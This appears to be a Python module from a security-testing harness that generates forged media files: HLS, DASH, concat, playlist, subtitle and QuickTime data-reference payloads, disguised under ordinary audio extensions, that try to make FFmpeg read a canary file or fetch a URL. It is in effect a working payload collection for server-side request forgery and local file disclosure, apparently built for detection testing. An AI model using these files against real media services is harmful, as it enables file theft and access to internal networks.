"""Files that would make FFmpeg open another file or an address, had it its way."""

from pathlib import Path

from attacks.forging import Files, be32, box
from media import RECIPES, recording

EXTENSIONS = tuple(RECIPES)


def references(url: str, canary: Path) -> Files:
    """Each trick, with every way to spell what it refers to, under the names of ordinary recordings."""
    targets = {
        "http": f"{url}/segment.wav",
        "file": f"file://{canary}",
        "path": str(canary),
        "relative": canary.name,
        "chain": f"concat:{canary}|{url}/second.wav",
        "sub": f"subfile,,start,0,end,0,,:{canary}",
        "data": f"crypto:{url}/key",
    }
    number = 0
    for spelling, target in targets.items():
        for trick, data in _texts(target).items() | _movies(target).items():
            number += 1
            yield f"{trick}-{spelling}.{EXTENSIONS[number % len(EXTENSIONS)]}", data


def _texts(target: str) -> dict[str, bytes]:
    texts = {
        "hls": f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{target}\n#EXT-X-ENDLIST\n",
        "hls-key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{target}"\n#EXTINF:10,\na.ts\n#EXT-X-ENDLIST\n',
        "hls-master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{target}\n",
        "concat": f"ffconcat version 1.0\nfile '{target}'\n",
        "dash": (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
            f'mediaPresentationDuration="PT10S"><Period><BaseURL>{target}</BaseURL><AdaptationSet contentType="audio">'
            '<Representation id="1" bandwidth="1"/></AdaptationSet></Period></MPD>'
        ),
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns={target}\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n",
        "m3u": f"{target}\n",
        "pls": f"[playlist]\nFile1={target}\nNumberOfEntries=1\n",
        "asx": f'<asx version="3.0"><entry><ref href="{target}"/></entry></asx>',
        "smooth": f'<SmoothStreamingMedia><StreamIndex Type="audio" Url="{target}"/></SmoothStreamingMedia>',
        "rtsp-text": f"rtsptext\n{target}\n",
        "subtitles": f"[Script Info]\n[Fonts]\nfontname: {target}\n",
        "vobsub": f"# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n{target}\n",
        "mpsub": f"FORMAT=TIME\nFILE={target}\n",
        "imf": f'<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{target}</Id></CompositionPlaylist>',
    }
    return {trick: data.encode() for trick, data in texts.items()}


def _movies(target: str) -> dict[str, bytes]:
    """QuickTime may keep its sound elsewhere, and say where in several ways."""
    whole = recording("m4a")
    encoded = target.encode() + b"\0"
    own = box(b"url ", be32(1))
    reference = {
        "dref-url": box(b"url ", be32(0), encoded),
        "dref-urn": box(b"urn ", be32(0), encoded, encoded),
        "dref-alias": box(b"alis", be32(0), _alias(target)),
        "dref-resource": box(b"rsrc", be32(0), _alias(target)),
    }
    movies = {trick: _grown(whole, own, entry) for trick, entry in reference.items()}
    movie = box(b"rmra", box(b"rmda", box(b"rdrf", be32(0), b"url ", be32(len(encoded)), encoded)))
    return movies | {"reference-movie": box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", movie)}


def _alias(target: str) -> bytes:
    """An alias record with the path as its entry of kind 18, and as that of kind 2."""
    path = target.encode()
    path += b"\0" * (len(path) % 2)
    fixed = bytes(4) + (150).to_bytes(2, "big") + b"\0\x02\0\0" + bytes(28) + bytes(4) + bytes(64) + bytes(16)
    fixed += b"\0\1\0\1" + bytes(26)
    entries = b"".join(kind.to_bytes(2, "big") + len(path).to_bytes(2, "big") + path for kind in (2, 18))
    return fixed + entries + b"\xff\xff\0\0"


def _grown(data: bytes, old: bytes, new: bytes) -> bytes:
    """Replace a box inside `dref`, and let all the boxes around it grow; the sound comes before them and stays."""
    growth = len(new) - len(old)
    forged = bytearray(data.replace(old, new, 1))
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):
        at = data.index(kind) - 4
        forged[at : at + 4] = be32(int.from_bytes(data[at : at + 4], "big") + growth)
    return bytes(forged)
